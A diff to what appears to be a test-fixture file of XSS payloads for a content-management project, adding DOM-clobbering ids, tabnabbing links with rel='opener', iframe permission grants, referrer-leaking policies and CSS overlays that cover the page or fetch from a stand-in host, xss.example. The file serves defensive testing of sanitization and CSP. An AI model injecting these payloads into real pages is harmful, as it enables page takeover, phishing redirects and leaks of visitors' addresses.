@@ -1,9 +1,12 @@
 /**
  * Known XSS payloads, by class, written for this project from the classes public cheat-sheets list
- * (attributes, URLs, SVG, MathML, mutation XSS, DOM clobbering, meta/base, plugins). `RUN` stands for
- * the code a payload would run: `top.__xss=<its number>`, so a test can tell which one ran. Fed to
- * every family that shows HTML it did not print (README, "HTML answers"), on a page with the strict
- * CSP and on a page without any CSP: nothing may run, navigate, or move the page's base.
+ * (attributes, URLs, SVG, MathML, mutation XSS, DOM clobbering, meta/base, plugins), and what an
+ * answer could do to the page around it without running anything (tabnabbing, permissions, referrer
+ * leaks, styles that cover the page or fetch from elsewhere).
+ * `RUN` stands for the code a payload would run: `top.__xss=<its number>`, so a test can tell which
+ * one ran. Fed to every family that shows HTML it did not print (README, "HTML answers"), on a page
+ * with the strict CSP and on a page without any CSP: nothing may run, navigate, or move the page's
+ * base, nor take over the page.
  */
 const RAW: Readonly<Record<string, readonly string[]>> = {
   scripts: [
@@ -130,6 +133,9 @@ const RAW: Readonly<Record<string, readonly string[]>> = {
     '<div id="x"></div><img src="/missing-xss.png" onerror="RUN" is="x-img">',
     '<svg></p><style><a id="</style><img src=/missing-xss.png onerror=RUN>">',
   ],
+  // Ids and names that would become `window`/`document` properties, shadow a form's own, or be what a
+  // widget of the page finds by id: a popup's inline target, the search's options (React's useId, in
+  // its 19.2+ form, its 19.1 form and its 18 form), the comment form, a comment.
   clobbering: [
     '<form name="cookie"><input name="x"></form>',
     '<img name="getElementById" src="/assets/media/lake.svg" alt="">',
@@ -139,6 +145,18 @@ const RAW: Readonly<Record<string, readonly string[]>> = {
     '<a id="CMSIslands" name="CMSIslands" href="javascript:RUN">c</a>',
     '<form name="body"><input name="appendChild"></form>',
     '<embed name="documentElement" src="javascript:RUN">',
+    '<iframe name="wpcf7" title="c"></iframe>',
+    '<img name="cmsIslandsSettings" src="/assets/media/lake.svg" alt="">',
+    '<img id="woodmart_settings" name="woodmart_settings" src="/assets/media/lake.svg" alt="">',
+    '<form name="wpcf7"><input name="api"></form>',
+    '<div id="size-guide"><a href="https://xss.example/">Not the size guide</a></div>',
+    '<ul><li id="_island1-r_0_option0" role="option"><a href="https://xss.example/">o</a></li></ul>',
+    '<ul><li id="«island1-r0»option0" role="option"><a href="https://xss.example/">o</a></li></ul>',
+    '<ul><li id=":island1-r0:option0" role="option"><a href="https://xss.example/">o</a></li></ul>',
+    '<form id="respond" action="https://xss.example/"><textarea name="comment"></textarea></form>',
+    '<div id="div-comment-2"><a id="comment-2" href="https://xss.example/">c</a></div>',
+    '<form><input name="submit"><input name="action"><select name="elements"></select><button name="location">b</button></form>',
+    '<form><input name="status"><input name="origin"><textarea name="title"></textarea></form>',
   ],
   navigation: [
     '<meta http-equiv="refresh" content="0;url=https://xss.example/">',
@@ -153,6 +171,52 @@ const RAW: Readonly<Record<string, readonly string[]>> = {
     '<style>@import "https://xss.example/x.css";</style>',
     '<style>body{background:url("javascript:RUN")}</style>',
     '<div style="background:url(javascript:RUN)">s</div>',
+  ],
+  // A new tab that keeps a handle on this page (`opener`) can send it elsewhere; a named window
+  // (or `_top`, `_parent`) is no new tab and gets one too. Each leads to `TAB_PAGE`.
+  tabnabbing: [
+    '<a href="https://xss.example/tab" target="_blank" rel="opener">t</a>',
+    '<a href="https://xss.example/tab" target="_BLANK" rel="opener nofollow">t</a>',
+    '<a href="https://xss.example/tab" target="cms-islands-named" rel="opener">t</a>',
+    '<a href="https://xss.example/tab" target="_top">t</a>',
+    '<map name="tab-map"><area href="https://xss.example/tab" target="_blank" rel="opener" shape="rect" coords="0,0,40,40" alt="a"></map><img usemap="#tab-map" src="/assets/media/lake.svg" width="40" height="40" alt="">',
+    '<form action="https://xss.example/tab" target="_blank" rel="opener"><button>t</button></form>',
+    '<form action="https://xss.example/tab" target="cms-islands-form"><button>t</button></form>',
+    '<svg width="40" height="40"><a href="https://xss.example/tab" target="_blank" rel="opener"><rect width="40" height="40"></rect></a></svg>',
+  ],
+  // Features an embed's frame could ask the visitor for, delegated with `allow`.
+  permission: [
+    '<iframe src="https://www.youtube-nocookie.com/embed/permission" allow="camera; microphone; geolocation" title="p"></iframe>',
+    '<iframe src="https://player.vimeo.com/video/1" allow="geolocation *; camera *" allowfullscreen title="p"></iframe>',
+  ],
+  // Policies that send another host the page's full address (its path and query) as the Referer.
+  referrer: [
+    '<img src="https://referrer.example/unsafe-url.png" referrerpolicy="unsafe-url" alt="">',
+    '<img src="https://referrer.example/downgrade.png" referrerpolicy="no-referrer-when-downgrade" alt="">',
+    '<iframe src="https://www.youtube-nocookie.com/embed/referrer" referrerpolicy="unsafe-url" title="r"></iframe>',
+    '<a href="https://referrer.example/link" referrerpolicy="unsafe-url">r</a>',
+  ],
+  // Styles that take the answer out of its place over the page, or fetch from another host.
+  overlay: [
+    '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">covered</div>',
+    '<a href="https://xss.example/" style="position:absolute;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;display:block;background:#fff">covered</a>',
+    '<div style="position:sticky;top:0;height:100vh;z-index:2147483647;background:#fff">covered</div>',
+    '<div style="transform:translateY(-100000px);height:100000px;background:#fff">covered</div>',
+    '<div style="translate:0 -100000px;height:100000px;background:#fff">covered</div>',
+    '<div style="margin-top:-1000000px;height:1000000px;background:#fff">covered</div>',
+    '<div style="--pull:-1000000px;margin-top:var(--pull);height:1000000px;background:#fff">covered</div>',
+    '<div style="opacity:0;width:100vw;height:100vh">invisible</div>',
+    '<div style="background:url(https://xss.example/background.png)">b</div>',
+    '<div style="background-image:image-set(\'https://xss.example/set.png\' 1x)">b</div>',
+    '<div style="--picture:url(https://xss.example/custom.png);background-image:var(--picture)">b</div>',
+    '<div style="--picture:u\\72l(https://xss.example/escaped.png);background-image:var(--picture)">b</div>',
+    '<ul><li style="list-style-image:url(https://xss.example/list.png)">b</li></ul>',
+    '<div style="border:9px solid;border-image:url(https://xss.example/border.png) 30 round">b</div>',
+    '<svg width="10" height="10"><rect width="10" height="10" filter="url(https://xss.example/filter.svg#f)"></rect></svg>',
+    '<svg width="10" height="10"><rect width="10" height="10" style="mask:url(https://xss.example/mask.svg#m)"></rect></svg>',
+    '<svg width="10" height="10"><use href="https://xss.example/sprite.svg#icon"></use></svg>',
+    '<dialog open style="width:100vw;height:100vh">d</dialog>',
+    '<button popovertarget="cover">b</button><div popover id="cover" style="width:100vw;height:100vh">p</div>',
   ],
 };
 
@@ -169,6 +233,21 @@ export const XSS_PAYLOADS: readonly XssPayload[] = Object.entries(RAW)
 
 /** The host payloads try to send the visitor (or the page's base) to; nothing may ever ask it for anything. */
 export const XSS_HOST = 'xss.example';
+
+/** Where the tabnabbing payloads' links and forms lead: a page of the attacker's that reaches for its opener. */
+export const TAB_PAGE = `https://${XSS_HOST}/tab`;
+
+/** The numbers of a class's payloads. */
+export const payloadIdsOf = (kind: string): number[] => XSS_PAYLOADS.filter((payload) => payload.kind === kind).map(({ id }) => id);
+
+/** Every id and name the clobbering payloads give: none may become a property or a lookup's answer of the page. */
+export const CLOBBERING_NAMES: readonly string[] = [
+  ...new Set(
+    XSS_PAYLOADS.filter(({ kind }) => kind === 'clobbering').flatMap(({ html }) =>
+      [...html.matchAll(/\b(?:id|name)="([^"]+)"/g)].map(([, name = '']) => name),
+    ),
+  ),
+];
 
 /** Pieces the fuzz test builds markup from: wrappers, tags, attributes and URL forms of the classes above. */
 export const XSS_PIECES = {
